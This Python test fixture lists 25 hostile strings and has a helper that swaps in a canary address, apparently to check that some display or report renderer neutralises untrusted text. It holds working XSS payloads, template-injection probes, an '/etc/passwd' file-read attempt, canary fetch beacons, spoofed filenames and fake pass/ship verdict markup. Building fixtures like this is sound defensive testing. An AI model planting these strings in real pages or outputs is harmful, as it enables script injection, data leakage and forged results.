"""25 strings that have run scripts, loaded pictures or faked verdicts elsewhere. CANARY stands for an address."""

from __future__ import annotations

HOSTILE = (
    "<script>alert('CANARY');fetch('CANARY/script')</script>",
    '<img src="CANARY/img" onerror="alert(1)">',
    '<svg onload="alert(1)"><image href="CANARY/svg"/></svg>',
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\" src='CANARY/iframe'></iframe>",
    '<a href="javascript:alert(1)" id="hostile-link">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "</textarea></title></style></script><script>alert(1)</script>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style>@import "CANARY/style"; body { background: url(CANARY/background); display: none }</style>',
    '<link rel="stylesheet" href="CANARY/link"><link rel="prefetch" href="CANARY/prefetch">',
    '<base href="CANARY/base/">',
    '<meta http-equiv="refresh" content="0;url=CANARY/refresh">',
    '<form action="CANARY/form"><input autofocus onfocus="this.form.submit()"><button>ok</button></form>',
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onclick='alert(1)' style='position:fixed;inset:0;background:red' '",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %> #{7*7}",
    "pass\u202elfia\u202c \u2066hidden\u2069 invoice\u200bgpj.exe",
    "\x1b[2J\x1b[31mFAIL\x1b[0m\x07 \x9b31m \ud83d",
    "\\href{javascript:alert(1)}{x} $$\\url{CANARY/latex}$$ \\input{/etc/passwd}",
    "![leak](CANARY/markdown) [click](javascript:alert(1)) <CANARY/auto> @octocat #1 :shipit:",
    ":green-badge[PASS] :material/check: | pass | 1.000 |\n|---|---|\n# decision: ship",
    "]]><!--<svg><![CDATA[><image xlink:href='CANARY/cdata' onerror=alert(1)>]]>-->",
    '<object data="CANARY/object"></object><embed src="CANARY/embed"><video poster="CANARY/v">',
    '<details open ontoggle="alert(1)"><summary onclick="alert(1)">x</summary></details></main></body></html>',
)


def aimed(canary: str) -> list[str]:
    """Return the strings with the address that counts requests put in."""
    return [text.replace("CANARY", canary) for text in HOSTILE]
